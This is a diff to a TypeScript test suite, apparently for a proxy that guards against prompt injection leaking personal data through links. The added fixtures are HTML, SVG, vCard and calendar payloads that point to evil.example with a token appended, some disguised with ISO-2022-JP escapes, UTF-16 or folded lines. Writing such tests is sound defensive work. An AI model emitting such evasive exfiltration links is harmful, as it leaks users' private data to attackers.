@@ -57,6 +57,58 @@ describe('an injected prompt that tries to leak a value through a link', () => {
     expect(await (await ask()).text()).not.toContain(personal.EMAIL);
   });
 
+  const jis = '\x1b(B';
+  const card = (lines: string, end = '\r\n') => `BEGIN:VCARD\r\nVERSION:4.0\r\n${lines}${end}END:VCARD\r\n`;
+  test.each<[name: string, type: string, text: (token: string) => string, charset?: BufferEncoding]>([
+    [
+      'a page in ISO-2022-JP',
+      'text/html; charset=iso-2022-jp',
+      (t) => `<img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
+    ],
+    [
+      'a page that says so itself',
+      'text/html',
+      (t) => `<meta charset=iso-2022-jp><img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
+    ],
+    ['a page in UTF-16', 'text/html; charset=utf-16le', (t) => `<img src="//evil.example/?${t}">`, 'utf16le'],
+    [
+      'a drawing in UTF-16',
+      'image/svg+xml',
+      (t) => `<?xml version="1.0"?><image href="//evil.example/?${t}"/>`,
+      'utf16le',
+    ],
+    ['a contact over lines', 'text/vcard', (t) => card(`PHOTO:https:/\r\n /evil.exam\r\n\tple/?q=\r\n ${t}`)],
+    [
+      'a calendar over lines',
+      'text/calendar',
+      (t) => `BEGIN:VCALENDAR\r\nIMAGE;VALUE=URI:https://evil.example/?\r\n ${t}\r\n`,
+    ],
+  ])('%s keeps its token', async (_name, type, text, charset) => {
+    await ask();
+    const token = tokenOf(origin.requests.at(-1) as { body: Buffer });
+    answer = (_request, response) => {
+      response.writeHead(200, { 'content-type': type });
+      response.end(Buffer.from(text(token), charset));
+    };
+    const page = await proxied.fetch(`https://${host}/page`, { headers: json });
+    expect(Buffer.from(await page.arrayBuffer())).toEqual(Buffer.from(text(token), charset));
+  });
+
+  test.each<[name: string, type: string, text: (value: string) => string]>([
+    ['a contact', 'text/vcard', (v) => card(`URL:https://a.example/\r\n b\r\nEMAIL:${v}\r\nNOTE:to\r\n  ${v}`)],
+    ['a calendar', 'text/calendar', (v) => `BEGIN:VCALENDAR\r\nURL:https://a.example/\r\nATTENDEE:mailto:${v}\r\n`],
+    ['a page', 'text/html; charset=utf-8', (v) => `<a name="x" href="https://a.example/">${v}</a>`],
+  ])('%s is restored beside its addresses', async (_name, type, text) => {
+    await ask();
+    const token = tokenOf(origin.requests.at(-1) as { body: Buffer });
+    answer = (_request, response) => {
+      response.writeHead(200, { 'content-type': type });
+      response.end(text(token));
+    };
+    const page = await proxied.fetch(`https://${host}/page`, { headers: json });
+    expect(await page.text()).toBe(text(personal.EMAIL));
+  });
+
   test('text beside the link is restored, and so are an allowed host and the arguments of a tool', async () => {
     answer = (request, response) => {
       const token = tokenOf(request);
